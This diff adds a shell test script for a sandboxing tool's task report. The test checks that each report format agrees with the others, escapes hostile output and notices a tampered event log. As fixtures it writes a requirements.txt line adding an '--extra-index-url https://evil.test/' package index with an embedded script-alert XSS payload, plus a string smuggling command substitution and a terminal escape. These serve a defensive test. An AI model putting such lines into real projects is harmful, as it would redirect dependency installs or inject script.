@@ -1,0 +1,86 @@
+#!/bin/bash
+# SPDX-License-Identifier: Apache-2.0
+#
+# The report of a task: every format says the same, and nothing that a task did can break one.
+
+. "$(dirname "$0")/lib.sh"
+world "$0" "$@"
+workspace
+git init -q .
+
+run "$AGENTBOX" report
+is "no task yet: status" "$status" 1
+has "no task yet: said" "$err" "no task was recorded yet"
+run "$AGENTBOX" report --format pdf
+is "no such format: status" "$status" 2
+
+profile online '[profile]' 'extends = default' '[egress]' 'allow = allowed.test'
+nasty='<b>|`$(x)`&amp;"'"'"$'\033[31m'
+box online sh -c 'curl -s -m 2 http://refused.test/; echo "left-pad==1.0" >requirements.txt
+	echo "--extra-index-url https://evil.test/\"<script>alert(1)</script>" >>requirements.txt
+	mkdir -p "$1"; echo "x==1" >"$1/requirements.txt"; echo all: >Makefile; exit 3' sh "$nasty"
+is "the task" "$status" 3
+
+for format in text json markdown html sarif junit; do
+	run "$AGENTBOX" report --format "$format"
+	is "$format: status" "$status" 0
+	cp "$scratch/out" "report.$format"
+	lacks "$format: no escape sequence" "$out" $'\033'
+	run "$AGENTBOX" report --format "$format"
+	is "$format: the same again" "$out" "$(<"report.$format")"
+done
+text=$(<report.text)
+has "text: how it ended" "$text" "ended with status 3"
+has "text: what was refused" "$text" "allow = refused.test"
+has "text: the finding" "$text" "new instruction: --extra-index-url"
+has "text: the Makefile" "$text" "Makefile: add"
+is "json: is JSON, with the same" \
+	"$(jq -r '.exit, .log_intact, .hosts[0].host, (.sections.denied | length > 0), .sections.build[0].file' report.json)" \
+	$'3\ntrue\nrefused.test\ntrue\nMakefile'
+is "sarif: its version, and a place" \
+	"$(jq -r '.version, ([.runs[0].results[] | select(.ruleId == "build.change")][0].locations[0].physicalLocation.artifactLocation.uri)' report.sarif)" \
+	$'2.1.0\nMakefile'
+ok "junit: is XML" python3 -c 'import sys, xml.dom.minidom as x; x.parse(sys.argv[1])' report.junit
+is "junit: counts what failed" "$(grep -c '<failure' report.junit)" \
+	"$(sed -n 's/.*failures="\([0-9]*\)".*/\1/p' report.junit)"
+
+# --- the page ---
+page=$(<report.html)
+lacks "html: no script" "${page,,}" "<script"
+lacks "html: no markup of the task's" "$page" "<b>|"
+has "html: the style sheet's hash is in its policy" "$page" \
+	"style-src 'sha256-$(sed -n 's/.*<style>\(.*\)<\/style>.*/\1/p' report.html | tr -d '\n' |
+		openssl dgst -sha256 -binary | base64)'"
+has "html: dark as well" "$page" "prefers-color-scheme:dark"
+ok "html: every element is closed" python3 - report.html <<'END'
+import sys
+from html.parser import HTMLParser
+
+VOID = {"meta", "link", "br", "input", "hr"}
+stack = []
+
+
+class Page(HTMLParser):
+    def handle_starttag(self, tag, attrs):
+        if tag not in VOID:
+            stack.append(tag)
+        for name, value in attrs:
+            assert not name.startswith("on") and name != "style", (tag, name)
+            assert name not in ("src", "href") or value.startswith("#"), value
+
+    def handle_endtag(self, tag):
+        assert stack and stack.pop() == tag, (tag, stack)
+
+
+Page().feed(open(sys.argv[1], encoding="utf-8").read())
+assert not stack, stack
+END
+
+# --- a log that is not intact says so ---
+log=$(latest_task)/events.jsonl
+sed -i '0,/"verdict":"deny"/s//"verdict":"allow"/' "$log"
+for format in text markdown html; do
+	run "$AGENTBOX" report --format "$format"
+	has "$format: an altered log" "${out,,}" "not intact"
+done
+finish
